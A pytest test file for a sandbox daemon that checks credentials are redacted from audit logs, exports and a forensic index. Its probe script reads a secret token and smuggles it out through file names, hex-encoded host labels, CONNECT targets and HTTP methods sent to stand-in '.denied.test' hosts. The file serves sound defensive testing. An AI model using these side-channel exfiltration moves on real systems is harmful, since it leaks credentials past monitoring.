"""A sandbox writes its credential into the permanent log by other ways than its output
(the red-team's finding 6): a file named after it, a host name with its hex as a label,
a CONNECT target, an HTTP method. Every string of the call's events is redacted before
it is hashed: the trace, the export, effectsObserved and the forensic index hold only
`[REDACTED:<binding>]`, on both backends."""

from __future__ import annotations

import base64
import textwrap

import pytest

from sandboxd_testing import make_daemon

from .conftest import BACKENDS, DAEMON_ENV, AdapterClient, call, public_tmpdir, stop_and_clean

SECRET = "tok-7f3a91c2e5b8d4a6"
PROBE = textwrap.dedent("""
    import os, socket
    s = os.environ["TOK"]
    h = s.encode().hex()
    open(f"/workspace/out/{s}.txt", "w").write("x")
    open(f"/workspace/out/{h}.log", "w").write("y")
    os.rename(f"/workspace/out/{h}.log", f"/workspace/out/moved-{s}")
    port = int(os.environ["HTTP_PROXY"].rsplit(":", 1)[1])
    for head in (f"GET http://{h}.denied.test/ HTTP/1.1\\r\\nHost: {h}.denied.test\\r\\n\\r\\n",
                 f"CONNECT {s}.denied.test:443 HTTP/1.1\\r\\nHost: {s}.denied.test:443\\r\\n\\r\\n",
                 f"{s} http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n",
                 f"CONNECT {s}:443 HTTP/1.1\\r\\n\\r\\n"):
        c = socket.create_connection(("127.0.0.1", port))
        c.sendall(head.encode())
        c.settimeout(5)
        try:
            c.recv(4096)
        except OSError:
            pass
        c.close()
    print("done")
""")


def forms(value: str) -> list[str]:
    raw = value.encode()
    return [value.lower(), raw.hex(), base64.b64encode(raw).decode()[:16].lower()]


@pytest.fixture(scope="module")
def redacting_daemon(docker_engine):
    base = public_tmpdir("sandboxd-redact-")
    d = make_daemon(base / "d", env={**DAEMON_ENV, "SANDBOXD_TEST_TOKEN": SECRET}, credentials={
        "tok": {"env": "SANDBOXD_TEST_TOKEN", "principals": ["root"]}}).start()
    yield d
    stop_and_clean(d, docker_engine, base)


@pytest.mark.parametrize("backend", BACKENDS)
def test_strings_a_sandbox_chose_are_redacted_in_every_event(redacting_daemon, backend):
    d = redacting_daemon
    ws = d.new_workspace({"out/.keep": ""})
    request = call(ws, ["python3", "-c", PROBE], {
        "filesystem": {"readRoots": ["/workspace"], "writeRoots": ["/workspace/out"]},
        "network": {"egress": "allowlist", "allowDomains": ["allowed.test"]},
        "environment": {"secretEnvAllowed": True}})
    request["credentialRefs"] = [{"bindingId": "tok", "envName": "TOK"}]
    with AdapterClient(str(d.socket), backend) as c:
        out = c.run(request)
        assert out.stdout == b"done\n", out.stderr
        events = list(c.export_events(out.tool_call_id))
        text = "\n".join(e.payload_json for e in events).lower()
        for form in forms(SECRET):
            assert form not in text, f"{form} is in the log"
        effects = str(out.result.effects_observed).lower()
        assert all(form not in effects for form in forms(SECRET))
        types = [e.type for e in events]
        assert "FileAccessObserved" in types and types.count("NetworkAccessObserved") >= 3
        files = " ".join(e.payload_json for e in events if e.type == "FileAccessObserved")
        assert "/workspace/out/[REDACTED:tok].txt" in files and "moved-[REDACTED:tok]" in files
        network = " ".join(e.payload_json for e in events if e.type == "NetworkAccessObserved")
        assert "[REDACTED:tok].denied.test" in network
        # The forensic index was fed the redacted log only.
        hexed = f"{SECRET.encode().hex()}.denied.test"
        assert not list(c.query_calls(domain=hexed).calls)
        assert not list(c.query_calls(path=f"/workspace/out/{SECRET}.txt").calls)
        assert out.tool_call_id in [r.tool_call_id for r in
                                    c.query_calls(path="/workspace/out/[REDACTED:tok].txt").calls]
        assert c.verify_log().ok


@pytest.mark.parametrize("backend", BACKENDS)
def test_a_leased_sandbox_keeps_redacting_what_an_earlier_command_was_given(redacting_daemon, backend):
    """A leased sandbox's tempDir outlives a command: a secret one command wrote there
    is struck from a later command's output and events, which named no credential."""
    d = redacting_daemon
    ws = d.new_workspace({"out/.keep": ""})
    policy = {"filesystem": {"readRoots": ["/workspace"], "writeRoots": ["/workspace/out"]},
              "environment": {"secretEnvAllowed": True}}
    with AdapterClient(str(d.socket), backend) as c:
        lease = c.acquire_sandbox(str(ws), policy, adapter=backend)
        first = call(ws, ["sh", "-c", 'printf %s "$TOK" > /tmp/kept'], policy)
        first["credentialRefs"] = [{"bindingId": "tok", "envName": "TOK"}]
        first["runtime"].update({"leaseId": lease.lease_id, "adapter": backend})
        assert c.run(first).result.status == "success"
        later = call(ws, ["sh", "-c", 'cat /tmp/kept; echo; touch "/workspace/out/$(cat /tmp/kept).txt"'], policy)
        later["runtime"].update({"leaseId": lease.lease_id, "adapter": backend})
        out = c.run(later)
        assert out.stdout == b"[REDACTED:tok]\n", out.stdout
        text = "\n".join(e.payload_json for e in c.export_events(out.tool_call_id)).lower()
        assert all(form not in text for form in forms(SECRET))
        assert "/workspace/out/[redacted:tok].txt" in text
        c.release_sandbox(lease.lease_id)
